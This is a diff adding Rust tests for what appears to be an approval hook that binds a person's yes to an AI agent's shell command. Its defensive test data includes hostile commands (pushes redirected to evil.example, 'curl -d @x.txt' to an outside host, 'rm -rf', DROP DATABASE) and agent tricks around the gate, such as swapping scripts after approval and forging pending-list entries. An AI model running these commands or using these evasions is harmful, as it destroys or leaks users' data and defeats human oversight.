@@ -1,0 +1,331 @@
+//! A person's yes is bound to what the call means: whatever the call takes its orders from must be as it was.
+#![allow(
+    clippy::unwrap_used,
+    clippy::panic,
+    clippy::indexing_slicing,
+    clippy::string_slice,
+    reason = "a test that cannot go on shall stop"
+)]
+
+mod support;
+
+use serde_json::{Value, json};
+use std::fs;
+use std::path::PathBuf;
+use support::{Machine, Said, at_terminal, bash};
+
+/// A machine with a real repository, and the text of the last preview.
+struct Here {
+    machine: Machine,
+    project: PathBuf,
+}
+
+impl Here {
+    fn new() -> Here {
+        let machine = Machine::new();
+        let project = machine.project();
+        let here = Here { machine, project };
+        here.git("init -q -b main .");
+        here.git("config user.email a@b.example");
+        here.git("config user.name a");
+        here.git("remote add origin git@host.example:team/shop.git");
+        here.put("README", "x\n");
+        here.git("add .");
+        here.git("commit -q -m x");
+        here
+    }
+
+    fn git(&self, words: &str) {
+        let line = format!("cd '{}' && git {words}", self.project.display());
+        let said = self.machine.program("sh", ["-c", &line]).run();
+        assert_eq!(said.code, 0, "{words}: {said:?}");
+    }
+
+    fn put(&self, path: &str, text: &str) {
+        let file = if let Some(rest) = path.strip_prefix("~/") {
+            self.machine.home().join(rest)
+        } else {
+            self.project.join(path)
+        };
+        fs::create_dir_all(file.parent().unwrap()).unwrap();
+        fs::write(&file, text).unwrap();
+        fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    }
+
+    fn say(&self, session: &str, command: &str) -> Said {
+        let mut payload: Value = serde_json::from_slice(&bash(&self.project, command)).unwrap();
+        payload["session_id"] = session.into();
+        self.machine.hook().input(payload.to_string()).run()
+    }
+
+    fn passes(&self, command: &str) -> bool {
+        self.say("s1", command) == Said::silence()
+    }
+
+    fn pending(&self) -> Vec<Value> {
+        self.machine.reflex(["pending", "--json"]).run().json()["pending"].as_array().unwrap().clone()
+    }
+
+    /// The call is stopped; its entry on the list.
+    #[track_caller]
+    fn stopped(&self, command: &str) -> Value {
+        let said = self.say("s1", command);
+        assert_ne!(said, Said::silence(), "nothing stops {command}");
+        self.pending().into_iter().find(|call| call["text"] == command).unwrap()
+    }
+
+    /// A yes of a person, whose preview is given; `None` where there is no terminal.
+    #[track_caller]
+    fn yes(&self, call: &Value) -> Option<String> {
+        let (code, said) = at_terminal(&self.machine, &format!("approve {}", call["id"].as_str().unwrap()), "y\n")?;
+        assert_eq!(code, 0, "{said}");
+        Some(said)
+    }
+}
+
+fn bound(call: &Value) -> Vec<String> {
+    call["bound"].as_array().unwrap().iter().map(|one| one["shown"].as_str().unwrap().to_owned()).collect()
+}
+
+/// The call is stopped and approved, then something changes: the yes does not hold; once that is as it was, it does.
+#[track_caller]
+fn check(command: &str, shown: &str, before: &[(&str, &str)], change: impl Fn(&Here), back: impl Fn(&Here)) {
+    let here = Here::new();
+    before.iter().for_each(|(path, text)| here.put(path, text));
+    let call = here.stopped(command);
+    assert!(bound(&call).iter().any(|line| line.contains(shown)), "no {shown:?} in {:#?}", bound(&call));
+    let Some(preview) = here.yes(&call) else { return };
+    assert!(preview.contains(shown), "no {shown:?} in {preview}");
+    change(&here);
+    assert!(!here.passes(command), "{command} passes after the change");
+    back(&here);
+    assert!(here.passes(command), "{command} does not pass: {:#?}", here.pending());
+    assert!(!here.passes(command), "{command} passes twice");
+}
+
+/// The same where a file is the only thing that changes.
+#[track_caller]
+fn check_file(command: &str, shown: &str, file: &str, text: &str) {
+    let other = format!("{text}\n");
+    check(command, shown, &[(file, text)], |here| here.put(file, &other), |here| here.put(file, text));
+}
+
+const PUSH: &str = "git push --force origin main";
+
+#[test]
+fn a_remote_that_leads_elsewhere_needs_a_new_yes() {
+    let nothing: &[(&str, &str)] = &[];
+    let at = "to git@host.example:team/shop.git";
+    let set = |words: &'static str| move |here: &Here| here.git(words);
+    let url = "remote set-url origin git@evil.example:x/y.git";
+    check(PUSH, at, nothing, set(url), set("remote set-url origin git@host.example:team/shop.git"));
+    let push = "remote set-url --add --push origin https://evil.example/x";
+    check(PUSH, at, nothing, set(push), set("config --unset-all remote.origin.pushurl"));
+    let rewritten = "config url.https://evil.example/.insteadOf git@host.example:";
+    check(PUSH, at, nothing, set(rewritten), set("config --unset url.https://evil.example/.insteadOf"));
+    let follows = "config branch.main.pushRemote elsewhere";
+    check("git push --force", at, nothing, set(follows), set("config --unset branch.main.pushRemote"));
+    let ssh = "config core.sshCommand './x'";
+    check(PUSH, at, nothing, set(ssh), set("config --unset core.sshCommand"));
+}
+
+#[test]
+fn a_push_of_other_commits_needs_a_new_yes() {
+    let commit = |here: &Here| here.git("commit -q --allow-empty -m other");
+    check(PUSH, "pushes main at ", &[], commit, |here| here.git("reset -q --hard HEAD~1"));
+}
+
+#[test]
+fn a_hook_that_git_would_run_belongs_to_the_call() {
+    let hook = ".git/hooks/pre-push";
+    check_file(PUSH, "runs .git/hooks/pre-push (sha256 ", hook, "#!/bin/sh\nexit 0\n");
+    let appears = |here: &Here| here.put(hook, "#!/bin/sh\nexit 0\n");
+    check(PUSH, "git's settings", &[], appears, |here| fs::remove_file(here.project.join(hook)).unwrap());
+    let elsewhere = |here: &Here| here.git("config core.hooksPath ci");
+    check(PUSH, "git's settings", &[("ci/pre-push", "x")], elsewhere, |here| here.git("config --unset core.hooksPath"));
+}
+
+#[test]
+fn an_alias_that_means_something_else_needs_a_new_yes() {
+    let here = Here::new();
+    here.git("config alias.out 'push --force origin main'");
+    let call = here.stopped("git out");
+    let Some(_) = here.yes(&call) else { return };
+    here.git("config alias.out '!git push --force origin main; true'");
+    assert!(!here.passes("git out"));
+    here.git("config alias.out 'push --force origin main'");
+    assert!(here.passes("git out"));
+    here.put("~/.bashrc", "alias out='git push --force origin main'\n");
+    let Some(_) = here.yes(&here.stopped("out")) else { return };
+    here.put("~/.bashrc", "alias out='git push --force origin main; true'\n");
+    assert!(!here.passes("out"));
+}
+
+#[test]
+fn a_script_that_runs_must_be_the_one_that_was_shown() {
+    let text = "#!/bin/sh\ngit push --force origin main\n";
+    check_file("bash deploy.sh", "runs deploy.sh (sha256 ", "deploy.sh", text);
+    check_file("./deploy.sh --now", "runs deploy.sh (sha256 ", "deploy.sh", text);
+    check_file("cd ci && . ./deploy.sh", "runs ci/deploy.sh (sha256 ", "ci/deploy.sh", text);
+    let python = "import os\nos.system('git push --force origin main')\n";
+    check_file("python3 deploy.py", "runs deploy.py (sha256 ", "deploy.py", python);
+    let node = "require('child_process').execSync('git push --force origin main')\n";
+    check_file("node deploy.js", "runs deploy.js (sha256 ", "deploy.js", node);
+    let outer = ("outer.sh", "sh inner.sh\n");
+    let inner = |text: &'static str| move |here: &Here| here.put("inner.sh", text);
+    let own = "git push --force origin main\n";
+    let other = "git push --force origin main\n# x\n";
+    check("sh outer.sh", "runs inner.sh (sha256 ", &[outer, ("inner.sh", own)], inner(other), inner(own));
+}
+
+#[test]
+fn what_a_tool_reads_from_the_project_belongs_to_the_call() {
+    check_file("make out", "follows Makefile (sha256 ", "Makefile", "out:\n\tgit push --force origin main\n");
+    let package = r#"{"scripts": {"out": "git push --force origin main"}}"#;
+    check_file("npm run out", "follows package.json (sha256 ", "package.json", package);
+    check_file("just out", "follows justfile (sha256 ", "justfile", "out:\n    git push --force origin main\n");
+    let first = |here: &Here| here.put("GNUmakefile", "out:\n\tgit push --force origin main\n");
+    let makefile = ("Makefile", "out:\n\tgit push --force origin main\n");
+    let gone = |here: &Here| fs::remove_file(here.project.join("GNUmakefile")).unwrap();
+    check("make out", "Makefile", &[makefile], first, gone);
+    check_file("terraform destroy -auto-approve", "goes by main.tf (", "main.tf", "resource \"a\" \"b\" {}\n");
+    check_file("docker compose down -v", "goes by compose.yaml (", "compose.yaml", "services: {}\n");
+    check_file("kubectl delete namespace prod", "goes by ~/.kube/config (", "~/.kube/config", "current-context: a\n");
+    check_file("task out; git push --force origin main", "goes by Taskfile.yml (", "Taskfile.yml", "tasks: {}\n");
+    check_file("cargo run; git push --force origin main", "goes by build.rs (", "build.rs", "fn main() {}\n");
+}
+
+#[test]
+fn a_program_of_the_project_must_be_the_same() {
+    let own = "#!/bin/sh\ngit push --force origin main\n";
+    check_file("bin/tool", "runs bin/tool (sha256 ", "bin/tool", own);
+    check_file("npx prisma migrate reset --force", "node_modules/.bin/prisma (", "node_modules/.bin/prisma", "x");
+    let line = "PATH=tools:$PATH tool; git push --force origin main";
+    check_file(line, "runs tools/tool (sha256 ", "tools/tool", "x");
+}
+
+#[test]
+fn a_file_that_a_program_takes_orders_from_must_be_the_same() {
+    check_file("psql -f drop.sql", "follows drop.sql (sha256 ", "drop.sql", "DROP DATABASE shop;\n");
+    check_file("psql < drop.sql", "follows drop.sql (", "drop.sql", "DROP DATABASE shop;\n");
+    check_file("kubectl delete -f x.yaml", "follows x.yaml (sha256 ", "x.yaml", "kind: Namespace\n");
+    check_file("sh < x.txt", "x.txt (", "x.txt", "git push --force origin main\n");
+    check_file("cat x.txt | sh", "x.txt (", "x.txt", "git push --force origin main\n");
+    check_file("xargs -a list rm -rf", "list (", "list", "/srv/a\n");
+    check_file("cat list | xargs rm -rf", "reads list (", "list", "/srv/a\n");
+    check_file("rm -rf $(cat list)", "reads list (", "list", "/srv/a\n");
+    check_file("curl -d @x.txt http://x.example; git push --force", "x.txt (", "x.txt", "a\n");
+}
+
+#[test]
+fn what_is_too_large_is_told_by_number_size_and_times() {
+    let here = Here::new();
+    let large = format!("git push --force origin main\n{}", "# x\n".repeat(400_000));
+    here.put("large.sh", &large);
+    let call = here.stopped("git push --force; sh large.sh");
+    assert!(bound(&call).iter().any(|line| line.contains("large.sh (by number, size and times; ")), "{call:#}");
+    let Some(_) = here.yes(&call) else { return };
+    here.put("large.sh", &large);
+    assert!(!here.passes("git push --force; sh large.sh"));
+}
+
+#[test]
+fn what_nobody_could_hold_to_is_not_approved() {
+    let here = Here::new();
+    let pipe = here.project.join("pipe");
+    assert_eq!(here.machine.program("mkfifo", [&pipe]).run().code, 0);
+    let call = here.stopped("git push --force; sh < pipe");
+    let id = call["id"].as_str().unwrap();
+    let Some((code, said)) = at_terminal(&here.machine, &format!("approve {id}"), "y\n") else { return };
+    assert!(code == 64 && said.contains("nobody could tell a change"), "{said}");
+}
+
+#[test]
+fn a_person_is_told_when_the_script_has_changed_since() {
+    let here = Here::new();
+    here.put("deploy.sh", "git push --force origin main\n");
+    let call = here.stopped("bash deploy.sh");
+    here.put("deploy.sh", "git push --force origin main # x\n");
+    let id = call["id"].as_str().unwrap();
+    let told = here.machine.reflex(["why", id]).run().stdout;
+    assert!(told.contains("bound    runs deploy.sh (sha256 "), "{told}");
+    let Some((code, said)) = at_terminal(&here.machine, &format!("approve {id}"), "y\n") else { return };
+    assert!(code == 64 && said.contains("deploy.sh has changed since this call was refused"), "{said}");
+}
+
+#[test]
+fn another_session_or_agent_does_not_use_a_yes() {
+    let here = Here::new();
+    let Some(_) = here.yes(&here.stopped(PUSH)) else { return };
+    assert_ne!(here.say("s2", PUSH), Said::silence(), "another session");
+    let payload = json!({"session_id": "s1", "cwd": here.project, "hook_event_name": "PreToolUse", "tool_name": "Bash",
+        "tool_input": {"command": PUSH}, "turn_id": "t", "permission_mode": "default"});
+    let codex =
+        here.machine.reflex(["hook", "--agent", "codex", "--event", "PreToolUse"]).input(payload.to_string()).run();
+    assert_ne!(codex, Said::silence(), "another agent");
+    assert!(here.passes(PUSH));
+    // For the whole project it holds for everybody.
+    let asked = "git push --force origin topic";
+    let call = here.stopped(asked);
+    let line = format!("approve {} --scope repository --reason tested", call["id"].as_str().unwrap());
+    assert_eq!(at_terminal(&here.machine, &line, "y\n").unwrap().0, 0);
+    assert_eq!(here.say("s2", asked), Said::silence());
+    let call = here.stopped("git push --force origin other");
+    let line = format!("approve {} --scope session --reason tested", call["id"].as_str().unwrap());
+    assert_eq!(at_terminal(&here.machine, &line, "y\n").unwrap().0, 0);
+    assert_ne!(here.say("s2", "git push --force origin other"), Said::silence());
+    assert!(here.passes("git push --force origin other"));
+}
+
+#[test]
+fn without_a_session_the_agent_and_the_project_must_be_the_same() {
+    let here = Here::new();
+    let other = here.machine.root().join("other");
+    fs::create_dir_all(other.join(".git")).unwrap();
+    let ask = |folder: &PathBuf| {
+        let event = json!({"event": "pre-command", "command": "rm -rf /srv/x", "cwd": folder, "engine": "own"});
+        here.machine.reflex(["hook", "--agent", "universal"]).input(event.to_string()).run().json()["decision"].clone()
+    };
+    assert_ne!(ask(&here.project), json!("allow"));
+    let Some(_) = here.yes(&here.pending()[0]) else { return };
+    assert_ne!(ask(&other), json!("allow"));
+    assert_eq!(ask(&here.project), json!("allow"));
+}
+
+#[test]
+fn the_same_call_keeps_the_id_that_a_person_has_read() {
+    let here = Here::new();
+    let first = here.stopped(PUSH)["id"].clone();
+    assert_eq!(here.stopped(PUSH)["id"], first);
+    assert_eq!(here.pending().len(), 1);
+    let Some(_) = here.yes(&here.pending()[0]) else { return };
+    assert!(here.passes(PUSH));
+    assert_ne!(here.stopped(PUSH)["id"], first, "what was answered is another request");
+}
+
+#[test]
+fn no_agent_pushes_a_call_off_the_list() {
+    let here = Here::new();
+    let first = here.stopped(PUSH)["id"].clone();
+    for call in 0..45 {
+        here.say("flood", &format!("git push --force origin x{call}"));
+    }
+    let own = here.pending().iter().filter(|call| call["session"] == "flood").count();
+    assert_eq!(own, 40);
+    assert!(here.pending().iter().any(|call| call["id"] == first));
+    // Sessions that somebody makes up share the room of their agent.
+    let folder = here.machine.home().join(".local/state/reflex/pending");
+    let one = fs::read_dir(&folder).unwrap().map(|file| file.unwrap().path());
+    let one = one.into_iter().find(|path| fs::read_to_string(path).unwrap().contains("\"flood\"")).unwrap();
+    let name = one.file_stem().unwrap().to_string_lossy().into_owned();
+    let parts: Vec<&str> = name.split('-').collect();
+    for made_up in 0..159 {
+        let name = format!("x{made_up}-{}-{made_up:012}-{}.json", parts[1], parts[3]);
+        fs::copy(&one, folder.join(name)).unwrap();
+    }
+    assert_eq!(fs::read_dir(&folder).unwrap().count(), 200);
+    let said = here.say("late", "git push --force origin y").answer().1;
+    assert!(!said.contains("reflex approve"), "{said}");
+    assert!(here.pending().iter().any(|call| call["id"] == first));
+    assert_eq!(here.stopped(PUSH)["id"], first, "who is on the list stays on it");
+}
